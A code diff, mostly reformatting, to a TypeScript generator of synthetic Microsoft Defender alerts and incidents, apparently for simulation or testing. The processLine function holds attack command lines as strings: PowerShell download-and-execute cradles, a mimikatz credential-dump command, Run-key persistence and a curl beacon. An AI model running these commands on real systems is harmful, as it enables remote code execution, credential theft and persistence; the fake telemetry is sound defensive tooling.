@@ -35,7 +35,10 @@ export class Rng {
   }
   hex(chars: number): string {
     let s = "";
-    while (s.length < chars) s += Math.floor(this.next() * 0x100000000).toString(16).padStart(8, "0");
+    while (s.length < chars)
+      s += Math.floor(this.next() * 0x100000000)
+        .toString(16)
+        .padStart(8, "0");
     return s.slice(0, chars);
   }
   guid(): string {
@@ -90,7 +93,8 @@ export const TEMPLATES: readonly AlertTemplate[] = [
   {
     service: "MDE",
     title: "Suspicious PowerShell command line",
-    description: "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
+    description:
+      "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
     category: "Execution",
     severity: "Medium",
     detectionSource: "WindowsDefenderAtp",
@@ -103,7 +107,8 @@ export const TEMPLATES: readonly AlertTemplate[] = [
   {
     service: "MDE",
     title: "'Mimikatz' hacktool was detected",
-    description: "Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users. When used by attackers, these tools are often installed without authorization and used to compromise targeted machines.",
+    description:
+      "Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users. When used by attackers, these tools are often installed without authorization and used to compromise targeted machines.",
     category: "CredentialAccess",
     severity: "High",
     detectionSource: "WindowsDefenderAv",
@@ -155,7 +160,8 @@ export const TEMPLATES: readonly AlertTemplate[] = [
   {
     service: "MDE",
     title: "Low-reputation arbitrary code executed by signed executable",
-    description: "Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process.",
+    description:
+      "Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process.",
     category: "Execution",
     severity: "Low",
     detectionSource: "WindowsDefenderAtp",
@@ -220,7 +226,8 @@ export const TEMPLATES: readonly AlertTemplate[] = [
   {
     service: "MCAS",
     title: "Ransomware activity",
-    description: "The user manipulated many files with multiple extensions ending with an uncommon extension. This is an unusual number of file manipulations and is indicative of a potential ransomware attack.",
+    description:
+      "The user manipulated many files with multiple extensions ending with an uncommon extension. This is an unusual number of file manipulations and is indicative of a potential ransomware attack.",
     category: "Impact",
     severity: "High",
     detectionSource: "MCAS",
@@ -770,14 +777,30 @@ function processLine(t: number, r: Rng, user: TenantUser, domain: string): { fil
   switch (t) {
     case 0:
       return r.chance(0.5)
-        ? { fileName: "powershell.exe", filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", cmd: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${Buffer.from(`IEX (iwr http://${domain}/a.ps1)`, "utf16le").toString("base64")}` }
-        : { fileName: "powershell.exe", filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", cmd: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${domain}/update.ps1')"` };
+        ? {
+            fileName: "powershell.exe",
+            filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+            cmd: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${Buffer.from(`IEX (iwr http://${domain}/a.ps1)`, "utf16le").toString("base64")}`,
+          }
+        : {
+            fileName: "powershell.exe",
+            filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+            cmd: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${domain}/update.ps1')"`,
+          };
     case 1:
-      return { fileName: "mimikatz.exe", filePath: `C:\\Users\\${user.accountName}\\Downloads`, cmd: `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit` };
+      return {
+        fileName: "mimikatz.exe",
+        filePath: `C:\\Users\\${user.accountName}\\Downloads`,
+        cmd: `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
+      };
     case 2:
       return { fileName: "rundll32.exe", filePath: "C:\\Windows\\SysWOW64", cmd: `rundll32.exe C:\\ProgramData\\${r.hex(8)}.dll,DllRegisterServer` };
     case 3:
-      return { fileName: "reg.exe", filePath: "C:\\Windows\\System32", cmd: `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "C:\\Users\\${user.accountName}\\AppData\\Roaming\\updater.exe"` };
+      return {
+        fileName: "reg.exe",
+        filePath: "C:\\Windows\\System32",
+        cmd: `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "C:\\Users\\${user.accountName}\\AppData\\Roaming\\updater.exe"`,
+      };
     case 4:
       return { fileName: "curl.exe", filePath: "C:\\Windows\\System32", cmd: `curl.exe -s https://${domain}/beacon?id=${r.hex(12)}` };
     case 5:
@@ -785,7 +808,11 @@ function processLine(t: number, r: Rng, user: TenantUser, domain: string): { fil
     case 6:
       return { fileName: `${r.hex(8)}.exe`, filePath: "C:\\ProgramData", cmd: `${r.hex(8)}.exe -path C:\\ -enc` };
     default:
-      return { fileName: "powershell.exe", filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", cmd: `powershell.exe -c "Start-Process C:\\Users\\${user.accountName}\\Downloads\\invoice.exe"` };
+      return {
+        fileName: "powershell.exe",
+        filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+        cmd: `powershell.exe -c "Start-Process C:\\Users\\${user.accountName}\\Downloads\\invoice.exe"`,
+      };
   }
 }
 
@@ -800,7 +827,8 @@ function buildEntities(seed: string, data: TenantData, inc: IncidentRec, a: Aler
   const processCreationMs = a.createdMs - r.int(5_000, 120_000);
   const parent = r.pick(PARENTS);
   const fileNameDefault = a.t === 1 ? "mimikatz.exe" : a.t === 6 ? `${r.hex(6)}.lockbit` : a.t === 0 ? `${r.hex(6)}.ps1` : `${r.hex(8)}.dll`;
-  const filePathDefault = a.t === 0 ? `C:\\Users\\${user.accountName}\\AppData\\Local\\Temp` : a.t === 6 ? `C:\\Users\\${user.accountName}\\Documents` : "C:\\ProgramData";
+  const filePathDefault =
+    a.t === 0 ? `C:\\Users\\${user.accountName}\\AppData\\Local\\Temp` : a.t === 6 ? `C:\\Users\\${user.accountName}\\Documents` : "C:\\ProgramData";
   const mailSender = `billing@${domain}`;
   const out: Entity[] = [];
   for (const type of tpl.entities) {
@@ -913,7 +941,8 @@ export function alertView(seed: string, data: TenantData, inc: IncidentRec, a: A
   const tpl = TEMPLATES[a.t]!;
   const r = new Rng(`${seed}|${data.tenantId}|alert|${inc.id}|${n}`);
   const o = inc.overrides ?? {};
-  const devices = tpl.service === "MDE" ? inc.devices.map((d) => data.devices[d]!).map((d) => (o.deviceDnsName ? { ...d, deviceDnsName: o.deviceDnsName } : d)) : [];
+  const devices =
+    tpl.service === "MDE" ? inc.devices.map((d) => data.devices[d]!).map((d) => (o.deviceDnsName ? { ...d, deviceDnsName: o.deviceDnsName } : d)) : [];
   const user = data.users[inc.user]!;
   const status = alertStatus(inc.status);
   const classified = inc.classification !== "Unknown";
@@ -936,7 +965,11 @@ export function alertView(seed: string, data: TenantData, inc: IncidentRec, a: A
     firstActivityMs,
     lastActivityMs: Math.min(a.createdMs - 1_000, firstActivityMs + r.int(0, 1_800_000)),
     investigationId: endpoint && r.chance(0.6) ? 700_000 + (seed32(`${data.tenantId}|inv|${inc.id}`) % 200_000) : null,
-    investigationState: endpoint ? (status === "Resolved" ? r.pick(["SuccessfullyRemediated", "Benign", "TerminatedBySystem"]) : r.pick(["Queued", "Running", "PendingApproval"])) : "UnsupportedAlertType",
+    investigationState: endpoint
+      ? status === "Resolved"
+        ? r.pick(["SuccessfullyRemediated", "Benign", "TerminatedBySystem"])
+        : r.pick(["Queued", "Running", "PendingApproval"])
+      : "UnsupportedAlertType",
     detectorId: new Rng(`detector|${tpl.title}`).guid(),
     threatFamilyName: o.threatFamilyName ?? tpl.threatFamilyName,
     threatName: tpl.threatFamilyName ? `HackTool:Win32/${tpl.threatFamilyName}` : null,
@@ -961,7 +994,8 @@ export function incidentName(data: TenantData, inc: IncidentRec): string {
   const where = inc.devices.length === 1 ? " on one endpoint" : inc.devices.length > 1 ? " on multiple endpoints" : "";
   const sources = new Set(tpls.map((t) => t.service)).size > 1 ? " reported by multiple sources" : "";
   const cats = [...new Set(tpls.map((t) => t.category))];
-  if (tpls.length === 1) return first.service === "MDE" ? `${first.title}${where}` : first.service === "MDO" ? first.title : `${first.title} involving one user`;
+  if (tpls.length === 1)
+    return first.service === "MDE" ? `${first.title}${where}` : first.service === "MDO" ? first.title : `${first.title} involving one user`;
   if (cats.length >= 2) {
     return `Multi-stage incident involving ${CATEGORY_LABEL[cats[0]!] ?? cats[0]} & ${CATEGORY_LABEL[cats[1]!] ?? cats[1]}${where}${sources}`;
   }
@@ -973,7 +1007,9 @@ export function incidentView(seed: string, data: TenantData, inc: IncidentRec): 
   return {
     rec: inc,
     name,
-    description: inc.overrides?.description ?? `Microsoft Defender correlated ${inc.alerts.length} alert${inc.alerts.length === 1 ? "" : "s"} into this incident: ${name}.`,
+    description:
+      inc.overrides?.description ??
+      `Microsoft Defender correlated ${inc.alerts.length} alert${inc.alerts.length === 1 ? "" : "s"} into this incident: ${name}.`,
     severity: incidentSeverity(data, inc),
     alerts: inc.alerts.map((a, n) => alertView(seed, data, inc, a, n)),
   };
